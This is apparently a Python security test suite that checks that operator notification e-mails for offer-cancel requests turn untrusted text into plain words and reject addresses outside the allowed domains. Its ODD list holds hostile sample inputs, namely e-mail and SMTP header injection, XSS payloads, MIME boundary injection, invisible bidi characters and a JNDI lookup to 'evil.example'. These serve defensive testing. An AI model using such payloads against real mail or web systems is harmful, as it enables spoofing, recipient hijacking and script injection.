"""Whatever others say ends in a mail as words: no header, recipient or element is of their making.

The mails are parsed with the standard library and held against one about the same request in which
nobody says anything odd.
"""

import json
from collections.abc import Sequence
from email import message_from_bytes, policy
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from shared.acceptance import CancelCall
from shared.http_answers import ProblemError
from shared.notification.as_html import _STYLE
from shared.notification.operator_mail import operator_mail
from shared.notification.wording import PARTNER_CENTER_URL
from tests.integration.stage import Stage
from tests.security.hostile import ALLOWED, SUBJECT, TEXT, TEXTS
from tests.security.memory_app import MAIL_SETTINGS, MemoryApp
from tests.security.partners import acceptance
from tests.shared.builders import OTHER_ID, REQUEST_ID, TARGET_ID

HEADERS = [
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "Auto-Submitted",
    "X-Auto-Response-Suppress",
    "X-Offer-Cancel-Request",
    "X-Offer-Cancel-Outcome",
    "MIME-Version",
    "Content-Type",
]
ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "div", "h1", "h2", "p", "strong", "a"),
    *("ul", "li", "table", "tr", "th", "td"),
}
ATTRIBUTES = {"lang", "charset", "name", "content", "class", "style", "href", "scope", "dir"}
UNSEEN = "\u202a\u202b\u202d\u202e\u2066\u2067\u2069\u200b\u200e\u200f\ufeff\x00\x1b\x07\x7f"
ODD = (
    "a\r\nBcc: eve@evil.example\r\n\r\n<h1>hello</h1>",
    "</p></div><script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)">Open Partner Center</a>',
    "<style>*{display:none}</style><!-- ",
    "&lt;script&gt; &#x3c;b&#x3e; ]]><![CDATA[",
    "\u202eDELECNAC\u202c \u2066x\u2069\u200b",
    "\n.\r\nMAIL FROM:<eve@evil.example>\r\n",
    "=?utf-8?q?=0D=0ABcc=3A_eve=40evil=2Eexample?=",
    "=?utf-8?q?eve=40evil=2Eexample=2C?=x",
    "--===============0==\r\nContent-Type: text/html\r\n\r\n<b>",
    "{tried_for} {0} %(x)s ${jndi:ldap://evil.example}",
    "https://evil.example/ javascript:alert(1) data:text/html,x",
)


class Elements(HTMLParser):
    """Everything in a page that is more than words."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.others: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def assert_ours(raw: bytes) -> EmailMessage:
    """Fail for a mail that has anything of somebody else's making but words."""
    mail = message_from_bytes(raw, policy=policy.default)
    assert isinstance(mail, EmailMessage)
    assert not mail.defects
    assert list(mail.keys()) == HEADERS
    text, html = mail.iter_parts()
    assert [text.get_content_type(), html.get_content_type()] == ["text/plain", "text/html"]
    for part in (text, html):
        assert set(part.keys()) <= {"Content-Type", "Content-Transfer-Encoding", "MIME-Version"}
        assert not set(UNSEEN) & set(part.get_content())
    assert_no_foreign_element(html.get_content())
    return mail


def assert_no_foreign_element(html: str) -> None:
    found = Elements()
    found.feed(html)
    found.close()
    assert set(found.names) <= ELEMENTS
    assert found.names.count("a") == found.names.count("style") == found.names.count("title") == 1
    assert not found.others
    assert _STYLE in html.replace("\r\n", "\n")
    values = dict(found.attributes)
    assert set(values) <= ATTRIBUTES
    assert [v for name, v in found.attributes if name == "href"] == [PARTNER_CENTER_URL]
    assert all("<" not in (v or "") and "url(" not in (v or "") for _, v in found.attributes)


def mails_of(app: MemoryApp) -> list[tuple[EmailMessage, tuple[str, ...]]]:
    return [(assert_ours(mail.as_bytes()), to) for mail, to in app.sent.mails]


def pending_by(words: Sequence[str], emails: Sequence[str]) -> str:
    """A pending message of somebody else's with an outcome, all its words their own."""
    reason, state, code, message, error, answer = words
    at = "2026-11-21T11:00:00Z"
    refusal = {"statusCode": 400, "code": code, "message": answer}
    outcome = {
        "name": "rejected", "at": at, "operationState": state, "code": code, "message": message
    }  # fmt: skip
    members: dict[str, Any] = {
        "requestId": REQUEST_ID,
        "requestedAt": at,
        "reason": reason[:500],
        "lastState": state,
        "lastStateAt": at,
        "lastError": error,
        "refusal": refusal,
        "outcome": outcome,
        "targetOperationId": TARGET_ID,
        "alsoCanceled": [OTHER_ID],
        "notificationEmails": list(emails),
    }
    return json.dumps({**SUBJECT, **members})


def is_short(text: str) -> bool:
    return len(text) < 700 and "\ud800" not in text  # half a pair is no JSON of ours: poison


@settings(max_examples=60)
@example([*ODD[:6]], [ALLOWED, *ODD])
@example([*ODD[-6:]], [ALLOWED])
@given(
    st.lists(TEXT.filter(is_short), min_size=6, max_size=6),
    st.lists(st.sampled_from([ALLOWED, *ODD, *TEXTS]).filter(is_short), max_size=5),
)
def test_words_from_everywhere_are_words_in_the_mail(words: list[str], emails: list[str]) -> None:
    app = MemoryApp()
    text = pending_by(words, emails)
    app.pending.put(text)
    app.poll()
    found = mails_of(app)
    assert len(found) == 1
    for mail, recipients in found:
        expected = (ALLOWED,) if ALLOWED in emails else MAIL_SETTINGS.default_emails
        assert recipients == expected
        assert mail["To"] == ", ".join(expected)
        assert mail["Subject"] == "NOT canceled, Partner Center refused: contoso/contoso-vm"


@pytest.mark.parametrize("odd", ODD, ids=range(len(ODD)))
def test_what_poison_says_is_words_in_the_digest(odd: str) -> None:
    app = MemoryApp()
    app.requests_poison.put(json.dumps({**SUBJECT, "requestId": odd, odd: odd}))
    app.requests_poison.put(odd)
    app.look_after_poison()
    [(mail, recipients)] = app.sent.mails
    assert recipients == MAIL_SETTINGS.default_emails
    parsed = message_from_bytes(mail.as_bytes(), policy=policy.default)
    plain = operator_mail(
        "x",
        ["x"],
        key="x",
        sender="a@contoso.com",
        recipients=recipients,
        now=app.clock(),
    )
    assert list(parsed.keys()) == list(plain.keys())
    assert parsed.get_content_type() == "text/plain"
    assert not set(UNSEEN) & set(parsed.get_content())
    assert "evil.example" not in parsed.get_content()


@pytest.mark.parametrize("odd", ODD, ids=range(len(ODD)))
def test_an_address_of_odd_words_is_refused_with_its_position(odd: str) -> None:
    emails = f"{ALLOWED},{odd.replace(',', '')}@contoso.com"
    problem = refusal_of(emails)
    assert str(problem) == (
        "metadata.notification-emails: address 2 is not a valid e-mail address."
    ) or "longer than" in str(problem)


def test_a_domain_that_is_not_allowed_is_refused_with_its_position_and_setting() -> None:
    problem = refusal_of(f"{ALLOWED},eve@evil.example")
    assert (problem.status_code, problem.code) == (400, "BadRequest")
    assert str(problem) == (
        "metadata.notification-emails: the domain of address 2 is not one that this deployment"
        " mails to (NOTIFICATION_ALLOWED_DOMAINS)."
    )


def refusal_of(emails: str) -> ProblemError:
    """What the HTTP path answers to a request that names these."""
    call = CancelCall(
        publisher_id="contoso",
        offer_id="contoso-vm",
        api_version=None,
        headers={"content-type": "application/json"},
        body=json.dumps({"metadata": {"notification-emails": emails}}).encode(),
    )
    with pytest.raises(ProblemError) as raised:
        acceptance(MemoryApp()).accept(call)
    return raised.value


@pytest.mark.integration
def test_on_the_wire_odd_words_are_one_mail_to_whom_it_may_go(stage: Stage) -> None:
    """Through storage, Partner Center's simulator and an SMTP server, from every side at once."""
    stage.given("cancels-after-202")
    emails = f"{ALLOWED},eve@evil.example,x\r\nRCPT TO:<eve@evil.example>@contoso.com"
    request_id = stage.ask(reason=" ".join(ODD)[:500], metadata={"notification-emails": emails})
    stage.play_out(request_id)
    by_others = json.loads(pending_by(ODD[:6], [ALLOWED, *ODD])) | {"offerId": stage.offer}
    stage.pending.adapter.put(json.dumps(by_others))
    stage.poll()
    mails = stage.mails()
    assert [mail.recipients for mail in mails] == [(ALLOWED,), (ALLOWED,)]
    for mail in mails:
        assert_ours(mail.message.as_bytes())
